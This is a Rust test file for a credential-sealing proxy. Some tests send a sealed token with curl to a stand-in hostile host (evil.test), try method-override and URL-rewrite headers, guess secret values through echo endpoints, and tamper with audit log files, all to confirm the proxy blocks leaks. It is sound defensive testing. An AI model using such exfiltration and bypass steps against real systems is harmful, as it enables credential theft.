//! What goes over the wire: values in, values out again as placeholders, all else as it is.

use super::{CANARY, Scene, base64, clean};
use crate::harness::needs;

const CURL: &str = "curl -sS --max-time 20";

fn authorization(head: &str) -> Option<&str> {
    head.lines().find(|line| line.to_ascii_lowercase().starts_with("authorization:"))
}

#[test]
fn a_placeholder_becomes_the_value_for_its_hosts() {
    if !needs(["curl"]) {
        return;
    }
    let scene = Scene::new();
    let done = scene
        .run(&format!(
            "{CURL} https://api.test/echo -H \"Authorization: Bearer $API_TOKEN\"; \
             {CURL} https://x.wild.test/echo -u \"me:$API_TOKEN\"; \
             {CURL} https://api.test/echo -H \"X-Key: a $API_TOKEN b $API_TOKEN\"; echo; echo $PLAIN"
        ))
        .ok();
    clean(done).stdout_has("Bearer authy-sealed-api-token-").stdout_has("plain-value");
    let seen = scene.world.seen();
    assert_eq!(authorization(&seen[0].head).unwrap(), format!("Authorization: Bearer {CANARY}"));
    let basic = base64(&format!("me:{CANARY}"));
    assert_eq!(authorization(&seen[1].head).unwrap(), format!("Authorization: Basic {basic}"));
    assert!(seen[2].head.contains(&format!("a {CANARY} b {CANARY}")), "{}", seen[2].head);
    let audit = scene.audit();
    let granted = |detail: &str| audit.contains(&("granted".to_owned(), detail.to_owned()));
    for detail in [
        "api.test by sh",
        "x.wild.test by sh",
        "api.test by sh, 2 times",
        "x.wild.test by sh, once",
    ] {
        assert!(granted(detail), "{detail} in {audit:?}");
    }
    assert_eq!(audit.len(), 4, "{audit:?}");
}

#[test]
fn what_comes_back_is_a_placeholder_again_however_it_comes() {
    if !needs(["curl"]) {
        return;
    }
    let scene = Scene::new();
    let header = "-H \"Authorization: $API_TOKEN\" -H 'TE: trailers'";
    let all =
        ["echo", "gzip", "chunks", "forms", "reason", "redirect?to=/echo", "range", "trailers"];
    let mut script = String::new();
    for path in all {
        script += &format!("{CURL} -i https://api.test/{path} {header}; echo; echo '== {path}';");
        script += &format!("{CURL} -i --compressed -r 0-400 https://api.test/{path} {header};");
    }
    let done = clean(scene.run(&script).ok());
    let hex: String = CANARY.bytes().map(|b| format!("{b:02x}")).collect();
    let printed = done.text();
    assert!(!printed.contains(&hex) && !printed.contains("canary"), "{printed}");
    assert!(printed.matches("authy-sealed-api-token-").count() >= all.len(), "{printed}");
    assert!(!printed.contains("206 Partial"), "{printed}");
    assert!(!printed.to_lowercase().contains("x-late"), "trailers are dropped: {printed}");
    assert_eq!(scene.arrived().len(), 2 * all.len());
    // Compressed so that nobody here can read it, it does not come through.
    let done = scene.run(&format!("{CURL} -i https://api.test/brotli {header}")).ok();
    clean(done).stdout_has("502").stdout_has("cannot be looked into");
}

#[test]
fn rules_set_headers_and_look_into_bodies_where_they_say_so() {
    if !needs(["curl"]) {
        return;
    }
    let scene = Scene::with(&[
        "--seal",
        "api-token=api.test;as=header:X-Api-Key;in=query,path,body",
        "--seal",
        "api-token=x.wild.test;as=basic:bot",
        "--seal",
        "plain=api.test;placeholder=ghp_",
    ]);
    let script = format!(
        "{CURL} \"https://api.test/echo/$API_TOKEN?t=$API_TOKEN\" -H 'X-Api-Key: mine'; \
         {CURL} https://api.test/echo -d \"a=$API_TOKEN\"; \
         {CURL} https://api.test/echo -H 'Content-Type: application/json' -d \"{{\\\"a\\\":\\\"$API_TOKEN\\\"}}\"; \
         {CURL} https://x.wild.test/echo; \
         head -c 3000000 /dev/zero | tr '\\0' x >big; echo $API_TOKEN >>big; \
         {CURL} https://api.test/echo -H 'Content-Type: text/plain' --data-binary @big -o back; tail -c 100 back; echo $PLAIN"
    );
    let done = clean(scene.run(&script).ok());
    assert!(done.text().lines().last().unwrap().starts_with("ghp_"), "{done}");
    let seen = scene.world.seen();
    let encoded = "canary%2FSealed%2BValue%3D4711";
    assert!(
        seen[0].head.starts_with(&format!("GET /echo/{encoded}?t={encoded} ")),
        "{}",
        seen[0].head
    );
    assert!(
        seen[0].head.contains(&format!("X-Api-Key: {CANARY}")) && !seen[0].head.contains("mine")
    );
    assert_eq!(String::from_utf8_lossy(&seen[1].body), format!("a={encoded}"));
    assert_eq!(String::from_utf8_lossy(&seen[2].body), format!("{{\"a\":\"{CANARY}\"}}"));
    let basic = base64(&format!("bot:{CANARY}"));
    assert!(seen[3].head.contains(&format!("authorization: Basic {basic}")), "{}", seen[3].head);
    assert!(seen[4].body.ends_with(format!("x{CANARY}\n").as_bytes()));
    assert_eq!(seen[4].body.len(), 3_000_000 + CANARY.len() + 1);
}

#[test]
fn rules_that_contradict_each_other_put_nothing_in() {
    if !needs(["curl"]) {
        return;
    }
    let scene = Scene::with(&[
        "--seal",
        "api-token=api.test,*.wild.test;as=bearer",
        "--seal",
        "plain=x.wild.test;as=basic:bot",
    ]);
    let script = format!("{CURL} https://x.wild.test/echo; {CURL} https://api.test/echo -f -o out");
    let done = clean(scene.run(&script).ok());
    done.stdout_has("two rules set 'authorization'").stdout_has("'api-token' and to 'plain'");
    assert_eq!(scene.world.seen().len(), 1);
    let denied = ("denied".into(), "x.wild.test by sh: two rules set 'authorization'".into());
    assert!(scene.audit().contains(&denied), "{:?}", scene.audit());
}

#[test]
fn events_come_one_by_one_and_connections_are_kept() {
    if !needs(["curl", "python3"]) {
        return;
    }
    let scene = Scene::new();
    let script = "import http.client, os, ssl, time
proxy = os.environ['HTTPS_PROXY'].split('@')
port = int(proxy[1].split(':')[1])
import base64
user = base64.b64encode(proxy[0].split('//')[1].encode()).decode()
c = http.client.HTTPSConnection('127.0.0.1', port, context=ssl.create_default_context())
c.set_tunnel('api.test', 443, {'Proxy-Authorization': 'Basic ' + user})
c.request('GET', '/events', headers={'Authorization': os.environ['API_TOKEN']})
r = c.getresponse()
began = time.monotonic()
first = r.read1(100); gap = time.monotonic()
rest = r.read()
print(first, rest, 'apart' if time.monotonic() - gap > 0.1 else 'at once')
for n in range(3):
    c.request('POST', '/echo', body=b'x' * n, headers={'X-Key': os.environ['API_TOKEN']})
    r = c.getresponse(); print(r.status, r.read()[-n:])
";
    let done = clean(scene.python(script).ok());
    done.stdout_has("b'data: one\\n\\n' b'data: two\\n\\n' apart").stdout_has("b'xx'");
    let audit = scene.audit();
    assert!(audit.iter().any(|(_, detail)| detail.ends_with("4 times")), "{audit:?}");
}

#[test]
fn a_silence_within_a_value_shows_nothing_of_it() {
    if !needs(["python3"]) {
        return;
    }
    let scene = Scene::new();
    // Backwards, as the output is looked into as well.
    let script = "import os, urllib.request
r = urllib.request.Request('https://api.test/halves', headers={'Authorization': os.environ['API_TOKEN']})
print(urllib.request.urlopen(r).read().decode()[::-1])
";
    let done = clean(scene.python(script).ok());
    let backwards: String = CANARY.chars().rev().collect();
    done.stdout_has("=nekot").stdout_has("nekot-ipa").stdout_lacks(&backwards[..8]);
}

#[test]
fn a_websocket_works_and_its_frames_are_looked_into() {
    if !needs(["python3"]) {
        return;
    }
    let scene = Scene::new();
    let done = clean(scene.python(include_str!("websocket.py")).ok());
    // As long as the value, for a frame says its length before.
    let shown = format!("hello {}", &"authy-sealed-api-token-x"[..CANARY.len().min(23)]);
    done.stdout_has(&shown).stdout_has("echo b'one'").stdout_has("echo b'two'");
    let (_, head) = &scene.arrived()[0];
    assert!(!head.to_lowercase().contains("permessage-deflate"), "{head}");
}

#[test]
fn other_hosts_are_tunnelled_unread_and_the_users_own_proxy_leads_there() {
    if !needs(["curl"]) {
        return;
    }
    let scene = Scene::new();
    let done = scene
        .run(&format!(
            "{CURL} https://evil.test/echo -H \"Authorization: $API_TOKEN\"; \
             {CURL} https://evil.test/brotli -o /dev/null -w '%{{http_code}}'; \
             {CURL} https://unreachable.test/; {CURL} https://api.test/echo; echo $NO_PROXY"
        ))
        .env("NO_PROXY", "localhost,api.test,.corp")
        .ok();
    // The server got the placeholder, and nothing was taken from what it said.
    clean(done)
        .stdout_has("authy-sealed-api-token-")
        .stdout_has("200")
        .stdout_has("localhost,.corp");
    assert!(scene.arrived().is_empty());
    let asked = scene.world.asked();
    assert!(asked.contains(&"evil.test:443".to_owned()), "{asked:?}");
    assert_eq!(scene.audit(), []);
}

#[test]
fn this_machine_is_spoken_to_without_tls_where_a_rule_says_so() {
    if !needs(["curl"]) {
        return;
    }
    let scene = Scene::new();
    let (port, tls_port) = (scene.world.plain_port, scene.world.port);
    let rule = format!("api-token=localhost:{port},localhost:{tls_port}");
    scene.t.authy(["policy", "update", "ci", "--seal", &rule]).ok();
    // Any program that listens there would have it, the one that runs too.
    let ask = format!("{CURL} http://localhost:{port}/echo -H \"Authorization: $API_TOKEN\"");
    clean(scene.run(&ask).ok()).stdout_has("without TLS");
    assert_eq!(scene.arrived().len(), 0);
    let rule = format!("{rule};loopback-plain=true");
    scene.t.authy(["policy", "update", "ci", "--seal", &rule]).ok();
    let show = scene.t.authy(["policy", "show", "ci"]).ok();
    show.stdout_has("without TLS to any program that listens");
    let done = scene
        .run(&format!(
            "{CURL} http://localhost:{port}/echo -H \"Authorization: $API_TOKEN\"; \
             {CURL} http://127.0.0.1:{port}/echo -H \"Authorization: $API_TOKEN\"; \
             {CURL} https://localhost:{tls_port}/echo -H \"Authorization: $API_TOKEN\"; \
             {CURL} -p http://localhost:{port}/gzip --compressed -H \"Authorization: $API_TOKEN\""
        ))
        .ok();
    clean(done).stdout_has("to 127.0.0.1").stdout_has("authy-sealed-");
    assert_eq!(scene.arrived().len(), 3);
    let audit = scene.audit();
    assert!(
        audit.contains(&("denied".into(), format!("127.0.0.1:{port} by sh: host"))),
        "{audit:?}"
    );
}

#[test]
fn a_token_alone_and_a_vault_that_cannot_be_written_are_enough() {
    if !needs(["curl"]) {
        return;
    }
    let scene = Scene::new();
    let t = &scene.t;
    let token = t.authy(["session", "create", "--scope", "ci"]).ok().text().trim().to_owned();
    let ask = format!("{CURL} https://api.test/echo -H \"Authorization: $api_token\"");
    let away = t.path("away.key");
    std::fs::rename(t.key(), &away).unwrap();
    let done = t.authy(["run", "--sealed", "--", "sh", "-c", &ask]).env("AUTHY_TOKEN", &token).ok();
    clean(done).stdout_has("authy-sealed-");
    assert_eq!(scene.arrived().len(), 1);
    let script = format!("authy run --sealed -- sh -c '{ask}'");
    let read_only = t.read_only(&t.vault(), &script);
    if let Some(call) = read_only {
        clean(call.env("AUTHY_TOKEN", &token).ok()).stdout_has("authy-sealed-");
        assert_eq!(scene.arrived().len(), 2);
        std::fs::rename(&away, t.key()).unwrap();
        // Both uses and both counts.
        assert_eq!(scene.audit().len(), 4, "{:?}", scene.audit());
    }
}

#[test]
fn nothing_leaves_that_could_not_be_recorded() {
    if !needs(["curl"])
        || rustix::process::getuid().is_root() && !crate::harness::strace_works(&Scene::new().t)
    {
        return;
    }
    let scene = Scene::new();
    // The chain is replaced by a folder once the program runs.
    let script = format!(
        "for file in {}/.local/audit/*/*.jsonl; do mv $file $file.away; mkdir $file; done; \
         {CURL} -i https://api.test/echo -H \"Authorization: $API_TOKEN\"; \
         for file in {0}/.local/audit/*/*.jsonl; do rmdir $file; mv $file.away $file; done",
        scene.t.vault().display()
    );
    let done = scene.run(&script).ok();
    clean(done).stdout_has("503").stdout_has("could not be recorded");
    assert_eq!(scene.arrived(), []);
}

#[test]
fn an_answer_that_is_cut_arrives_as_far_as_it_came_and_looks_cut() {
    if !needs(["curl"]) {
        return;
    }
    let scene = Scene::new();
    let t = &scene.t;
    for (path, size) in [("close/10", 10), ("close/300000", 300_000), ("half", 10)] {
        for authorization in ["", "-H \"Authorization: $API_TOKEN\""] {
            let ask = |ca: &str| {
                format!(
                    "curl -s {ca} https://api.test/{path} {authorization} -o out; echo $?; wc -c <out"
                )
            };
            let direct = t.sh(&ask("--cacert $SSL_CERT_FILE")).ok().text();
            let sealed = clean(scene.run(&ask("")).ok()).text();
            assert_eq!(sealed, direct, "{path} {authorization}");
            assert!(sealed.ends_with(&format!("\n{size}\n")), "{path}: {sealed}");
        }
    }
}

#[test]
fn what_cannot_be_looked_into_is_refused_and_said() {
    if !needs(["curl"]) {
        return;
    }
    let scene = Scene::new();
    let with = "-H \"Authorization: $API_TOKEN\"";
    let done = clean(scene.run(&format!("{CURL} https://api.test/coded {with}")).ok());
    done.stdout_has("transfer coding");
    // A name that a compressed body has for itself.
    let named = format!("{CURL} https://api.test/named {with} -o out && gzip -dc <out && cat out");
    clean(scene.run(&named).ok()).stdout_has("nothing");
}

#[test]
fn no_header_names_another_method_or_path_than_the_rule_is_asked_about() {
    if !needs(["curl"]) {
        return;
    }
    let scene = Scene::with(&["--seal", "api-token=api.test;methods=GET;paths=/echo"]);
    for header in ["X-HTTP-Method-Override: DELETE", "X-Original-URL: /secret", "x-rewrite-url: /s"]
    {
        let ask =
            format!("{CURL} https://api.test/echo -H \"Authorization: $API_TOKEN\" -H '{header}'");
        clean(scene.run(&ask).ok()).stdout_has("another method or path");
        // Without a value it is the program's own business.
        let ask = format!("{CURL} https://api.test/echo -H '{header}'");
        clean(scene.run(&ask).ok()).stdout_lacks("another method");
    }
    assert_eq!(scene.arrived().len(), 0);
}

#[test]
fn only_a_few_guesses_are_answered_and_each_is_recorded() {
    if !needs(["curl"]) {
        return;
    }
    let scene = Scene::new();
    // What was never sent there cannot come from there: nothing is looked into, or told.
    let guess = format!("{CURL} https://api.test/echo -o out -w '%{{http_code}} ' -d '{CANARY}'");
    scene.run(&format!("{guess}; grep -c Sealed out")).ok().stdout_is("200 1\n");
    assert!(scene.whole_audit().is_empty());
    let sent =
        format!("{CURL} https://api.test/count -H \"Authorization: $API_TOKEN\" -d x -o out");
    let guesses = format!("{guess}; ").repeat(7);
    let done = clean(scene.run(&format!("{sent}; {guesses}")).ok());
    done.stdout_is("200 200 200 200 200 502 502 ");
    let kept = ("denied".into(), "api.test by sh: kept out of an answer, 7 times".into());
    assert!(scene.whole_audit().contains(&kept), "{:?}", scene.whole_audit());
}

#[test]
fn a_value_of_few_possibilities_does_not_fall_in_an_answer_that_holds_them_all() {
    if !needs(["curl"]) {
        return;
    }
    let scene = Scene::new();
    let t = &scene.t;
    t.store([("pin", "4711")]);
    t.authy(["policy", "update", "ci", "--seal", "pin=api.test"]).ok();
    let all: String = (0..10_000).map(|n| format!("{n:04} ")).collect();
    t.write("all", all);
    let ask = format!(
        "{CURL} https://api.test/echo -H \"X-Pin: $PIN\" --data-binary @all -w '%{{http_code}}'"
    );
    let done = scene.run(&ask).ok().stdout_has("502").stdout_lacks("4710");
    drop(done);
    let kept = ("denied".into(), "api.test by sh: kept out of an answer".into());
    assert!(scene.whole_audit().contains(&kept), "{:?}", scene.whole_audit());
}
